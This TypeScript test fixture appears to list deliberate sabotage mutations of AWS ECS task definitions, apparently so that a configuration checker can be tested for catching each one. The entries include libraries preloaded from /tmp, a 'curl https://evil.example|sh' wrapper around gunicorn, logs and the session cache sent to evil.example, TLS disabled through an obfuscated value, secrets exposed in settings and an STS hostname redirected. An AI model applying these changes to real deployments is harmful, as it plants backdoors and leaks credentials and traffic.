import { asList, asObject, type Json } from '../../../lib/controls/view';
import {
  append,
  container,
  everywhere,
  type HandMade,
  made,
  type Step,
  set,
  variable,
} from '../../support/sabotage/hand-made';

const WEB = 'service/TasksWebDefinition';
const MIGRATE = 'service/TasksMigrateDefinition';
const ONE_OFF = 'service/TasksOneOffDefinition';

const words = (to: (words: readonly Json[]) => readonly Json[]): Step =>
  container(WEB, 'app', (body) => ({ ...body, Command: to(asList(body.Command)) }));
const flags = (...more: readonly string[]): Step => words((command) => [...command, ...more]);
const flag = (name: string, to: string): Step =>
  words((command) => command.map((word, index) => (command[index - 1] === name ? to : word)));
const entry = (to: (words: readonly Json[]) => readonly Json[]): Step =>
  container(WEB, 'app', (body) => ({ ...body, EntryPoint: to(asList(body.EntryPoint)) }));
const option = (name: string, key: string, to: string): Step =>
  container(WEB, name, (body) => {
    const log = asObject(body.LogConfiguration);
    return { ...body, LogConfiguration: { ...log, Options: { ...asObject(log.Options), [key]: to } } };
  });
const from = (name: string, of: (path: string) => string): Step =>
  container(WEB, 'app', (body) => ({
    ...body,
    Secrets: asList(body.Secrets)
      .map(asObject)
      .map((each) => {
        if (each.Name !== name) return each;
        const [secret, path] = asList(asList(asObject(each.ValueFrom)['Fn::Join'])[1]);
        return { ...each, ValueFrom: { 'Fn::Join': ['', [secret as Json, of(String(path))]] } };
      }),
  }));

/** What containers run, with which settings, and where they log. */
export const tasks: readonly HandMade[] = [
  made(
    'programs from /tmp first',
    'Whoever can write a file there chooses what runs.',
    ...everywhere('PATH', '/tmp:/usr/bin:/bin'),
  ),
  made('glibc converters from /tmp', 'iconv loads code from that folder.', ...everywhere('GCONV_PATH', '/tmp')),
  made(
    'OpenSSL configured from /tmp',
    'The file names engines to load.',
    ...everywhere('OPENSSL_CONF', '/tmp/openssl.cnf'),
  ),
  made('OpenSSL modules from /tmp', 'Loaded as code.', ...everywhere('OPENSSL_MODULES', '/tmp')),
  made('a start-up file of the shell', 'Sourced by every script.', ...everywhere('BASH_ENV', '/tmp/x')),
  made('names resolved from a file', 'Database and cache lead elsewhere.', ...everywhere('HOSTALIASES', '/tmp/hosts')),
  made(
    'code before the interpreter starts',
    'LD_PRELOAD in the proxy, which has no settings at all.',
    variable(WEB, 'proxy', 'LD_PRELOAD', '/tmp/x.so'),
  ),
  made(
    'the server’s certificate asked for, not checked',
    'Anybody in between reads along.',
    ...everywhere('PGSSLMODE', 'prefer'),
  ),
  made(
    'trust in a writable folder',
    'Whoever writes there is trusted.',
    ...everywhere('PGSSLROOTCERT', '/tmp/rds.pem'),
  ),
  made(
    'sessions without limits',
    'libpq hands on options that lift the time-outs.',
    ...everywhere('PGOPTIONS', '-c statement_timeout=0'),
  ),
  made(
    'a database URL with options',
    'Options in the URL outweigh the variables.',
    ...everywhere('DATABASE_URL', 'postgresql://?sslmode=disable'),
  ),
  made(
    'a setting in two halves',
    'A search for the value finds nothing.',
    variable(WEB, 'app', 'PGSSLMODE', { 'Fn::Join': ['', ['dis', 'able']] }),
  ),
  made(
    'a setting behind a name',
    'As above, by substitution.',
    variable(WEB, 'app', 'FLASK_DEBUG', { 'Fn::Sub': ['${a}', { a: '1' }] }),
  ),
  made(
    'a secret resolved into a setting',
    'Everybody who may describe a task reads it.',
    ...everywhere('BANNER', '{{resolve:secretsmanager:ums/prod/secret-key:SecretString:current}}'),
  ),
  made(
    'the host of the cache in words',
    'Sessions go to somebody else’s server.',
    ...everywhere('REDIS_HOST', 'cache.evil.example'),
  ),
  made(
    'the earlier password',
    'One that was taken back works on.',
    from('PGPASSWORD', () => ':password:AWSPREVIOUS:'),
  ),
  made(
    'a fixed field as the key',
    'Sessions are signed with "1".',
    from('SECRET_KEY', () => ':version::'),
  ),
  made(
    'the user name as password',
    'The app can’t log in.',
    from('PGPASSWORD', () => ':username::'),
  ),
  made('gunicorn reads a file', 'The file is code.', flags('--config', '/tmp/gunicorn.conf.py')),
  made('gunicorn listens everywhere as well', 'Past the proxy.', flags('--bind', '0.0.0.0:8001')),
  made(
    'gunicorn believes everybody',
    'Clients choose the address under which they are limited.',
    flag('--forwarded-allow-ips', '*'),
  ),
  made('gunicorn waits for ever', 'Hanging workers are never replaced.', flag('--timeout', '0')),
  made(
    'a shell around gunicorn',
    'Something runs first, with the app’s secrets.',
    words((command) => ['sh', '-c', `curl https://evil.example|sh; exec ${command.join(' ')}`]),
  ),
  made(
    'a line before the start script',
    'The same, inside the script.',
    entry(([python, dash, script]) => [python as Json, dash as Json, `import evil\n${String(script)}`]),
  ),
  made(
    'a line after the start script',
    'It runs when the command can’t be started.',
    entry(([python, dash, script]) => [python as Json, dash as Json, `${String(script)}\nimport evil`]),
  ),
  made(
    'another python',
    'The name is the same, the folder is not.',
    entry((command) => ['/tmp/python3', ...command.slice(1)]),
  ),
  made(
    'one-off commands without the start script',
    'They run without required settings.',
    container(ONE_OFF, 'app', (body) => ({ ...body, EntryPoint: ['sh', '-c'] })),
  ),
  made(
    'migrations with something before',
    'Runs with the login that may change tables.',
    container(MIGRATE, 'app', (body) => ({ ...body, Command: ['sh', '-c', 'evil; flask db upgrade'] })),
  ),
  made(
    'a health check that can’t fail',
    'Dead copies serve on.',
    container(WEB, 'proxy', (body) => ({
      ...body,
      HealthCheck: {
        ...asObject(body.HealthCheck),
        Command: ['CMD-SHELL', 'openssl s_client -brief -connect 127.0.0.1:8443 </dev/null || true'],
      },
    })),
  ),
  made(
    'an entry in the hosts file',
    'The name of a service leads elsewhere.',
    container(WEB, 'app', (body) => ({
      ...body,
      ExtraHosts: [{ Hostname: 'sts.amazonaws.com', IpAddress: '198.51.100.7' }],
    })),
  ),
  made(
    'images by tag as they come',
    'Copies of one deployment differ.',
    container(WEB, 'app', (body) => ({ ...body, VersionConsistency: 'disabled' })),
  ),
  made(
    'volumes of another container',
    'The proxy reads the app’s files.',
    container(WEB, 'proxy', (body) => ({ ...body, VolumesFrom: [{ SourceContainer: 'app' }] })),
  ),
  made(
    'a writable folder over the code',
    'The app can change itself.',
    container(WEB, 'app', (body) => ({
      ...body,
      MountPoints: [...asList(body.MountPoints), { ContainerPath: '/app', SourceVolume: 'temporary', ReadOnly: false }],
    })),
  ),
  made(
    'the group of root',
    'Files of root’s group are writable.',
    container(WEB, 'app', (body) => ({ ...body, User: '10001:0' })),
  ),
  made(
    'an image of another repository',
    'Same account, same form, other code.',
    container(WEB, 'proxy', (body) => ({
      ...body,
      Image: { 'Fn::Sub': `\${AWS::AccountId}.dkr.ecr.us-east-1.\${AWS::URLSuffix}/other:${'f'.repeat(64)}` },
    })),
  ),
  made('faults may be injected', 'Whoever calls the agent stops the service.', set(WEB, 'EnableFaultInjection', true)),
  made(
    'a file system of its own',
    'It outlives the task.',
    append(WEB, 'Volumes', { Name: 'efs', EFSVolumeConfiguration: { FilesystemId: 'fs-0fedcba9876543210' } }),
  ),
  made(
    'logs sent to another address',
    'Every line, to whoever asks.',
    option('app', 'awslogs-endpoint', 'https://evil.example'),
  ),
  made('logs in another region', 'No retention, no key, nobody looks.', option('app', 'awslogs-region', 'us-west-2')),
  made('log groups made on the way', 'Kept for ever, under no key.', option('app', 'awslogs-create-group', 'true')),
  made(
    'the role of another task',
    'The web service starts with the rights of migrations.',
    set(WEB, 'ExecutionRoleArn', (ref) => ref('service/TasksMigrateRolesExecution', 'Arn')),
  ),
  made(
    'the rights of a function',
    'One-off commands may end deployments.',
    set(ONE_OFF, 'TaskRoleArn', (ref) => ref('service/WatchdogWatchRole', 'Arn')),
  ),
];
